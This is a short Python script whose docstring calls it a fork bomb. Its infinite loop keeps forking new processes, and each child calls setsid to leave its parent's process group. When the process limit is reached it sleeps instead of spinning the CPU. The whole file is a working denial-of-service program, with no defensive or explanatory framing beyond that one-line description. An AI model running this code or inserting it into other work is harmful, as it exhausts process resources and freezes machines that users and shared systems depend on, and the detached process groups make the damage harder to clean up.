"""As a fork bomb, and each process leaves the group of the one that started it.

At its limit, it pauses instead of using the processors, which the other fork bomb does.
"""

import os
import time

while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        time.sleep(0.01)
